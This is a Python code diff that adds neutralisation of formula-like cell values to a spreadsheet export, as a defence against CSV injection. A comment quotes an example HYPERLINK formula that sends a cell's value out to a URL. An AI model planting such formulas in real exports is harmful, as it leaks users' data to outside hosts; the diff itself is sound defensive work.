@@ -237,16 +237,28 @@ def parse_sheet(filename: str, content: bytes, columns: Iterable[Column]) -> Par
     return result
 
 
+# Text a spreadsheet program would read as a formula (OWASP "CSV injection"): a product or organisation name such as
+# =HYPERLINK("http://…?leak="&B2) must stay text in every export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> Any:
+    """A cell value safe to export: text that starts like a formula gets a leading apostrophe (stays text)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def build_workbook(columns: Iterable[Column], rows: Iterable[Iterable[Any]], title: str = "Data") -> bytes:
     """An .xlsx with a bold header row in the current language; used for templates and exports."""
     workbook = Workbook()
     sheet = workbook.active
     sheet.title = str(title)[:31]
-    sheet.append([str(column.header) for column in columns])
+    sheet.append([neutralise(str(column.header)) for column in columns])
     for cell in sheet[1]:
         cell.font = Font(bold=True)
     for row in rows:
-        sheet.append([value if isinstance(value, int | Decimal) else str(value) for value in row])
+        sheet.append([value if isinstance(value, int | Decimal) else neutralise(str(value)) for value in row])
     for index, column in enumerate(columns, start=1):
         sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = max(
             14, len(str(column.header)) + 4
